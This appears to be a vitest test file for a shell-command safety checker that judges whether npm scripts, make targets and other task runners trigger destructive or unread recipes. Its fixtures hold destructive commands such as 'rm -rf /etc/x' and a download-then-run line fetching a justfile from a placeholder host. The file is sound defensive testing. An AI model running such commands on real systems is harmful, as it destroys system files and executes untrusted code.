// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell text, not templates.
import { describe, expect, it } from 'vitest';
import { rulingWith } from './place.ts';

const DELETES = 'deny deletion_outside';

const PACKAGE = JSON.stringify({
  scripts: { build: 'tsc', prebuild: 'rm -rf /etc/x', 'ci:a': 'tsc', 'ci:b': 'rm -rf /etc/x', ok: 'tsc' },
});
const UNREAD = 'warn warn_unread_script';

describe('what a program finds in a file of recipes is judged when it runs it', () => {
  it.each([
    ['package.json', PACKAGE, 'npm run build', DELETES],
    ['package.json', PACKAGE, 'npm run ok', 'allow'],
    ['package.json', PACKAGE, 'run-p ok ci:a', 'allow'],
    ['package.json', PACKAGE, "npx run-s 'ci:*'", DELETES],
    ['package.json', PACKAGE, 'npm-run-all --parallel ok ci:b', DELETES],
    ['Makefile', 'ok:\n\ttrue\nx:\n\trm -rf /etc/x\n', 'make', 'allow'],
    ['Makefile', 'ok:\n\ttrue\nx:\n\trm -rf /etc/x\n', 'make -n x', 'allow'],
    ['Makefile', 'ok:\n\ttrue\nx:\n\trm -rf /etc/x\n', 'make x', DELETES],
    ['ci/Makefile', 'x:\n\trm -rf /etc/x\n', 'make -C ci x', DELETES],
  ])('%s, %j: %s: %s', (name, text, command, expected) => {
    expect(rulingWith({ [name]: text }, command)).toBe(expected);
  });

  it('reads long makefiles, which programs write', () => {
    const padding = '# x\n'.repeat(9000);
    expect(rulingWith({ Makefile: `ok:\n\ttrue\n${padding}` }, 'make ok')).toBe('allow');
    expect(rulingWith({ Makefile: `ok:\n\ttrue\n${padding}\nx:\n\trm -rf /etc/x\n` }, 'make x')).toBe(
      DELETES,
    );
  });

  it('a makefile takes another file in', () => {
    const text = 'include ci.mk\nok:\n\ttrue\n';
    const other = { 'ci.mk': 'clean:\n\trm -rf /etc/x\n' };
    expect(rulingWith({ Makefile: text, ...other }, 'make clean')).toBe(DELETES);
    expect(rulingWith({ Makefile: text }, 'make clean')).toBe('allow');
  });
});

describe('what a runner finds in a file that is not read is unseen', () => {
  it.each([
    ['justfile', 'just'],
    ['justfile', 'just clean'],
    ['justfile', 'cd src && just clean'],
    ['ci/tasks.just', 'just -f ci/tasks.just clean'],
    ['Taskfile.yml', 'task build'],
    ['Procfile', 'foreman start'],
    ['Procfile.dev', 'honcho start -f Procfile.dev'],
    ['s.conf', 'supervisord -c s.conf'],
    ['supervisord.conf', 'supervisord -n'],
    ['pm2.json', 'pm2 start pm2.json'],
    ['pm2.json', 'pm2 start pm2.json -n x'],
    ['justfile', 'just clean --version'],
    ['dist/server.js', 'nodemon dist/server.js'],
    ['tox.ini', 'tox -e py'],
    ['pyproject.toml', 'poe test'],
    ['mise.toml', 'mise run x'],
    ['Makefile.toml', 'cargo make x'],
    ['lefthook.yml', 'lefthook run pre-commit'],
    ['package.json', 'npx lint-staged'],
    ['composer.json', 'composer a'],
    ['deno.json', 'deno task a'],
  ])('%s: %s', (name, command) => {
    expect(rulingWith({ [name]: 'x' }, command)).toBe(UNREAD);
    expect(rulingWith({}, command)).toBe('allow');
  });

  it.each(['just --list', 'just -n clean', 'task --dry clean', 'cargo test'])(
    '%s runs none of it',
    (command) =>
      expect(rulingWith({ justfile: 'x', 'Taskfile.yml': 'x', 'Makefile.toml': 'x' }, command)).toBe('allow'),
  );

  it('one that came from the network is a download that is run', () =>
    expect(rulingWith({}, 'curl -o justfile https://e.example/x && just')).toBe(
      'deny prevent_running_downloads',
    ));
});
